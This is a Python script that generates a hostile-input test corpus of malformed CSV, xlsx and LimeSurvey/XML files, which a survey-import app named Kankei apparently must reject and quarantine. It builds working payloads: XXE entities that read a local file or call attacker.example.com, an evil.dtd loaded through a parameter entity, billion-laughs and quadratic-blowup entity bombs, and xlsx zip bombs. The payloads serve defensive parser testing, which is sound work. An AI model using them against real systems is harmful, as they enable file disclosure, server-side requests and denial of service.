#!/usr/bin/env python3
"""Writes the hostile-input corpus: files a coordinator's inbox may receive that Kankei must
refuse, each kept byte-for-byte in quarantine/ with a Japanese explanation.

Every file is invented here (people are fictional; addresses use example.com / example.jp).
EXPECTED.tsv lists each file, what it is, and the place its .error.txt must name
(行目 = a row, 要素 = an XML element or zip part, ファイル全体 = the file as a whole).
The 100 MB single field is made by the test at run time and never committed.

    python3 scripts/make-hostile-fixtures.py
"""
import io, os, struct, zipfile, zlib

OUT = os.path.join(os.path.dirname(__file__), "..", "Tests", "KankeiEndToEndTests", "Fixtures", "hostile")
FORM_HEADER = "タイムスタンプ,メールアドレス,本日のWEB説明会に参加された理由を教えてください。（複数回答可）,「放課後企業クラブ」に関心はありますか。,ご意見・ご感想をご自由にお書きください。\r\n"
ROW = "2022/02/04 14:31:38,hanako.example@example.jp,先進事例に興味があった,関心あり,参考になりました。\r\n"
ZOOM_PREAMBLE = ("Attendee Report,\r\nReport Generated:,\"Feb 4, 2022 16:00:00\"\r\n"
                 "Topic,Webinar ID,Actual Start Time,Actual Duration (minutes),# Registered,# Cancelled,Unique Viewers,Total Users,Max Concurrent Views\r\n"
                 "テスト説明会,812 3456 7890,\"Feb 4, 2022 13:55:00\",95,10,0,8,9,8\r\n")
expected = []

def put(name, data, what, where):
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
    expected.append((name, what, where))

def xlsx(sheet, shared=None, extra=None, workbook=True):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
        if workbook:
            z.writestr("xl/workbook.xml", '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
            z.writestr("xl/_rels/workbook.xml.rels", '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
        if sheet is not None:
            z.writestr("xl/worksheets/sheet1.xml", sheet)
        if shared is not None:
            z.writestr("xl/sharedStrings.xml", shared)
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return buffer.getvalue()

def sheet(rows):
    xml = ['<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>']
    for r, cells in enumerate(rows, 1):
        xml.append(f'<row r="{r}">' + "".join(cells) + "</row>")
    xml.append("</sheetData></worksheet>")
    return "".join(xml)

MS_HEADER = ["ID", "開始時刻", "完了時刻", "メール", "名前", "満足度"]

def lsr(body, doctype=""):
    return ('<?xml version="1.0" encoding="UTF-8"?>\n' + doctype +
            "<document><LimeSurveyDocType>Responses</LimeSurveyDocType><DBVersion>366</DBVersion>"
            "<responses><fields><fieldname>id</fieldname><fieldname>submitdate</fieldname></fields><rows>"
            + body + "</rows></responses></document>\n")

def main():
    os.makedirs(OUT, exist_ok=True)
    for name in os.listdir(OUT):
        os.remove(os.path.join(OUT, name))

    # --- CSV and text -------------------------------------------------------------------------
    put("unbalanced-quote-in-row.csv", FORM_HEADER + ROW + '2022/02/04 14:40:00,a@example.jp,"先進事例に興味があった,関心あり,途中で切れた\r\n' + ROW * 3,
        "a quote that opens in row 3 and never closes", "行目")
    put("unbalanced-quote-in-header.csv", '"タイムスタンプ,メールアドレス,設問1\r\n' + ROW, "the header's first quote never closes", "行目")
    put("nul-bytes-in-row.csv", FORM_HEADER + ROW + "2022/02/04 14:41:00,b@example.jp,先進\x00事例,関心あり,x\r\n", "a NUL byte in row 3", "行目")
    put("nul-bytes-everywhere.csv", b"\x00" * 512, "only NUL bytes", "ファイル全体")
    put("header-only-form.csv", FORM_HEADER, "a Google Forms header and no answers", "行目")
    put("header-only-zoom-attendee.csv", ZOOM_PREAMBLE + "Attendee Details,\r\nAttended,User Name (Original Name),Email,Join Time,Leave Time,Time in Session (minutes),Country/Region Name\r\n",
        "a Zoom attendee report without a single attendee", "行目")
    put("empty.csv", b"", "zero bytes", "ファイル全体")
    put("blank-lines-only.csv", "\r\n\r\n   \r\n,,,\r\n", "only blank lines and commas", "ファイル全体")
    put("bom-only.csv", b"\xef\xbb\xbf", "a UTF-8 BOM and nothing else", "ファイル全体")
    put("mixed-utf8-then-cp932.csv", FORM_HEADER.encode() + ROW.encode() + "2022/02/04 14:42:00,c@example.jp,先進事例に興味があった,関心あり,保存し直した行\r\n".encode("cp932"),
        "UTF-8 rows, then a row saved in CP932", "行目")
    put("mixed-cp932-then-utf8.csv", FORM_HEADER.encode("cp932") + ROW.encode("cp932") + "2022/02/04 14:42:00,c@example.jp,先進事例に興味があった,関心あり,追記した行\r\n".encode(),
        "CP932 rows, then a row pasted in UTF-8", "行目")
    put("utf16-odd-length.csv", b"\xff\xfe" + FORM_HEADER.encode("utf-16-le") + b"\x41", "UTF-16 with a dangling half character", "行目")
    put("unknown-survey-header.csv", "タイムスタンプ,好きな果物は？,好きな色は？\r\n2022/02/04 14:31:38,りんご,赤\r\n",
        "a form no definition knows, in an event whose event.yaml names the municipal survey", "行目")
    put("duplicate-columns.csv", "タイムスタンプ,メールアドレス,「放課後企業クラブ」に関心はありますか。,「放課後企業クラブ」に関心はありますか。\r\n2022/02/04 14:31:38,d@example.jp,関心あり,関心なし\r\n",
        "the same question header twice", "行目")
    put("unknown-table.csv", "a,b,c\r\n1,2,3\r\n", "a table that is no export Kankei knows", "行目")
    put("json-as.csv", '{"responses": [{"q1": "関心あり"}]}\n', "JSON saved with a .csv name", "行目")
    put("html-as.csv", "<!DOCTYPE html><html><body><table><tr><td>関心あり</td></tr></table></body></html>\n", "an HTML page saved with a .csv name", "ファイル全体")
    put("html-named.xlsx", "<html><head><meta charset='utf-8'></head><body><table><tr><td>ID</td></tr></table></body></html>", "an Excel 'web page' save with an .xlsx name", "ファイル全体")
    put("too-many-columns.csv", ",".join(f"c{i}" for i in range(25_000)) + "\r\n", "25,000 columns in one row", "行目")
    put("random-bytes.csv", bytes((i * 97 + 13) % 256 for i in range(4096)), "random bytes", "ファイル全体")
    put("zoom-attendee-truncated.csv", ZOOM_PREAMBLE[:120], "a Zoom report cut off inside its preamble", "行目")

    # --- binary with any name -----------------------------------------------------------------
    png = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0) + b"\x00" * 4
    pdf = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    put("screenshot.png", png + b"\x00\x00\x00\x00IEND", "a PNG image", "ファイル全体")
    put("report.pdf", pdf + b"% saved from a browser\n", "a PDF", "ファイル全体")
    put("png-named.csv", png, "a PNG with a .csv name (wrong extension)", "ファイル全体")
    put("pdf-named.xlsx", pdf, "a PDF with an .xlsx name (wrong extension)", "ファイル全体")
    put("legacy-excel.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504, "an old .xls (OLE2) with an .xlsx name", "ファイル全体")
    put("gzip-named.csv", zlib.compress(ROW.encode() * 20)[:0] + b"\x1f\x8b\x08\x00" + zlib.compress(ROW.encode() * 20), "gzip bytes with a .csv name", "ファイル全体")
    put("jpeg-named.lsr", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 100, "a JPEG with a .lsr name", "ファイル全体")

    # --- xlsx and zip -------------------------------------------------------------------------
    good = xlsx(sheet([[f'<c r="A1" t="s"><v>{i}</v></c>' for i in range(len(MS_HEADER))]]),
                shared='<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' + "".join(f"<si><t>{h}</t></si>" for h in MS_HEADER) + "</sst>")
    put("truncated.xlsx", good[: len(good) // 2], "an xlsx cut in half (download stopped)", "ファイル全体")
    put("no-central-directory.xlsx", good[:-22], "an xlsx without its end-of-archive record", "ファイル全体")
    put("no-shared-strings.xlsx", xlsx(sheet([[f'<c r="{chr(65+i)}1" t="s"><v>{i}</v></c>' for i in range(6)]])),
        "cells that point into xl/sharedStrings.xml, which is missing", "行目")
    put("shared-string-out-of-range.xlsx", xlsx(sheet([[f'<c r="A1" t="s"><v>99</v></c>']]), shared='<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>ID</t></si></sst>'),
        "a cell pointing at shared string 99 of 1", "行目")
    put("no-workbook.xlsx", xlsx(None, workbook=False, extra={"word/document.xml": "<document/>"}), "a Word file (zip, no workbook) with an .xlsx name", "ファイル全体")
    put("malformed-sheet.xlsx", xlsx('<?xml version="1.0"?><worksheet><sheetData><row r="1">' + "".join(f'<c r="{chr(65+i)}1" t="inlineStr"><is><t>{h}</t></is></c>' for i, h in enumerate(MS_HEADER)) + '</row><row r="2"><c r="A2"><v>1</v></c><c r="B2"><v')[:0] + xlsx('<?xml version="1.0"?><worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>ID</t></is></c><c r="B1" t="inlineStr"><is><t>開始'),
        "a sheet whose XML stops mid-element", "要素")
    put("xxe-in-sheet.xlsx", xlsx('<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///kankei-xxe-probe/secret.txt">]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>'),
        "an external entity in the sheet", "要素")
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", '<workbook><sheets><sheet name="S" sheetId="1"/></sheets></workbook>')
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            part.write(b'<?xml version="1.0"?><worksheet><sheetData>')
            block = b" " * (1 << 20)
            for _ in range(300):
                part.write(block)
            part.write(b"</sheetData></worksheet>")
    put("zip-bomb.xlsx", bomb.getvalue(), "a sheet that inflates to 300 MB", "要素")
    put("zip-bomb-shared-strings.xlsx", xlsx(sheet([['<c r="A1" t="s"><v>0</v></c>']]),
        shared='<sst><si><t>' + "x" * (270 << 20) + '</t></si></sst>'), "shared strings that inflate to 270 MB", "要素")

    # --- XML ----------------------------------------------------------------------------------
    put("xxe-file.lsr", lsr("<row><id>1</id><submitdate>&xxe;</submitdate></row>", '<!DOCTYPE document [<!ENTITY xxe SYSTEM "file:///kankei-xxe-probe/secret.txt">]>\n'),
        "an external entity reading a local file", "要素")
    put("xxe-http.lsr", lsr("<row><id>1</id><submitdate>&xxe;</submitdate></row>", '<!DOCTYPE document [<!ENTITY xxe SYSTEM "http://attacker.example.com/x">]>\n'),
        "an external entity fetching a URL", "要素")
    put("xxe-parameter-entity.lsr", lsr("<row><id>1</id></row>", '<!DOCTYPE document [<!ENTITY % remote SYSTEM "http://attacker.example.com/evil.dtd"> %remote;]>\n'),
        "a parameter entity loading a remote DTD", "要素")
    put("external-dtd.lsr", lsr("<row><id>1</id></row>", '<!DOCTYPE document SYSTEM "http://attacker.example.com/limesurvey.dtd">\n'),
        "a DOCTYPE naming a remote DTD", "要素")
    laughs = "".join(f'<!ENTITY lol{i} "' + f"&lol{i-1};" * 10 + '">' for i in range(1, 10))
    put("billion-laughs.lsr", lsr("<row><id>1</id><submitdate>&lol9;</submitdate></row>", '<!DOCTYPE document [<!ENTITY lol0 "lol">' + laughs + "]>\n"),
        "nested entities (billion laughs)", "要素")
    put("quadratic-blowup.lsr", lsr("<row><id>1</id><submitdate>" + "&big;" * 20000 + "</submitdate></row>", '<!DOCTYPE document [<!ENTITY big "' + "x" * 50000 + '">]>\n'),
        "one large entity used 20,000 times", "要素")
    put("deeply-nested.xml", '<?xml version="1.0"?>\n<Responses><Response>' + "<a>" * 50000 + "</a>" * 50000 + "</Response></Responses>\n",
        "50,000 nested elements in a Qualtrics-style response file", "要素")
    put("malformed-unclosed.xml", '<?xml version="1.0"?>\n<Responses><Response><ResponseId>R_1</ResponseId><Q1>関心あり</Q1><Q2>途中で', "a Qualtrics-style response file that stops mid-element", "要素")
    put("mismatched-tags.lsr", lsr("<row><id>1</submitdate></row>"), "a closing tag that does not match", "要素")
    put("unknown-xml.xml", '<?xml version="1.0"?>\n<catalog><book id="1"><title>関係人口</title></book></catalog>\n', "XML that is no survey export", "要素")
    put("xml-bad-utf8.lsr", lsr("<row><id>1</id><submitdate>").encode()[:-60] + b"\xff\xfe\xfd" + b"</submitdate></row></rows></responses></document>", "XML with bytes that are not UTF-8", "要素")

    put("xml-wrong-declared-encoding.lsr", b'<?xml version="1.0" encoding="Shift_JIS"?>\n<document><LimeSurveyDocType>Resp\x81\x20\xa0\xff</LimeSurveyDocType></document>\n',
        "XML declaring Shift_JIS with bytes that are not (libxml2 used to print them on stderr)", "要素")

    with open(os.path.join(OUT, "EXPECTED.tsv"), "w", encoding="utf-8") as f:
        f.write("# file\twhat it is\twhere its .error.txt points (行目 / 要素 / ファイル全体)\n")
        for row in expected:
            f.write("\t".join(row) + "\n")
    print(f"{len(expected)} files in {os.path.normpath(OUT)}")

main()
